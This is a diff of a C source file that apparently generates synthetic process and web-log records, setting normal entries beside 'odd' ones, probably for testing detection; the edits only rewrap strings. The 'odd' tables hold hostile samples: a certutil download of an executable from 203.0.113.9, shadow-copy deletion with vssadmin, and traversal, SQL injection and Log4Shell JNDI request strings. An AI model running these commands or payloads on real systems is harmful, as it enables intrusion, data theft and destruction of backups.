@@ -49,7 +49,8 @@ static const struct program programs[] = {
 	{ "C:\\\\Program Files\\\\Git\\\\cmd\\\\git.exe", "git.exe", "Git",
 	    "git.exe log --max-count=50 --format=%H%x00%P%x00%an --date-order HEAD" },
 	{ "C:\\\\Windows\\\\System32\\\\cmd.exe", "Cmd.Exe", "Microsoft Windows Operating System",
-	    "C:\\\\Windows\\\\system32\\\\cmd.exe /d /s /c \\\"node scripts\\\\build.js --watch\\\"" },
+	    "C:\\\\Windows\\\\system32\\\\cmd.exe /d /s /c \\\"node scripts\\\\build.js "
+	    "--watch\\\"" },
 	{ "C:\\\\Program Files\\\\nodejs\\\\node.exe", "node.exe", "Node.js",
 	    "node node_modules\\\\vite\\\\bin\\\\vite.js --port 5173 --host 127.0.0.1" },
 	{ "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
@@ -72,7 +73,8 @@ static const struct program odd_programs[] = {
 	    "Microsoft Windows Operating System", "whoami /all" },
 	{ "C:\\\\Windows\\\\System32\\\\certutil.exe", "CertUtil.exe",
 	    "Microsoft Windows Operating System",
-	    "certutil -urlcache -split -f http://203.0.113.9/a.txt C:\\\\Users\\\\Public\\\\a.exe" },
+	    "certutil -urlcache -split -f http://203.0.113.9/a.txt "
+	    "C:\\\\Users\\\\Public\\\\a.exe" },
 	{ "C:\\\\Windows\\\\System32\\\\vssadmin.exe", "VSSADMIN.EXE",
 	    "Microsoft Windows Operating System", "vssadmin delete shadows /all /quiet" },
 	{ "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
@@ -96,7 +98,8 @@ static const char *const libraries[] = { "ntdll.dll", "kernel32.dll", "user32.dl
 
 static const char *const registry_keys[] = {
 	"HKLM\\\\System\\\\CurrentControlSet\\\\Services\\\\Tcpip\\\\Parameters\\\\DhcpNameServer",
-	"HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Explorer\\\\SlowContextMenus",
+	"HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Explorer\\\\SlowContextMenu"
+	"s",
 	"HKU\\\\S-1-5-21-1004336348-1177238915-682003330-512\\\\Software\\\\Microsoft\\\\Office\\\\"
 	"16.0\\\\Word\\\\Resiliency\\\\StartupItems",
 	"HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\"
@@ -295,9 +298,9 @@ static const struct page {
 	{ "/api/v1/items?limit=50&offset=", "" }, { "/login?n=", "" },
 	{ "/img/photo-", ".png?size=240" } };
 static const struct page odd_pages[] = { { "/cgi-bin/../../../../etc/passwd?", "" },
-	{ "/index.php?id=1+union+select+", ",2--" },
-	{ "/?x=${jndi:ldap://203.0.113.9/", "}" }, { "/wp-admin/setup-config.php?step=", "" },
-	{ "/.git/config?", "" }, { "/solr/admin/cores?action=", "" } };
+	{ "/index.php?id=1+union+select+", ",2--" }, { "/?x=${jndi:ldap://203.0.113.9/", "}" },
+	{ "/wp-admin/setup-config.php?step=", "" }, { "/.git/config?", "" },
+	{ "/solr/admin/cores?action=", "" } };
 
 struct names {
 	const char *ip, *method, *url, *status, *agent, *bytes, *more;
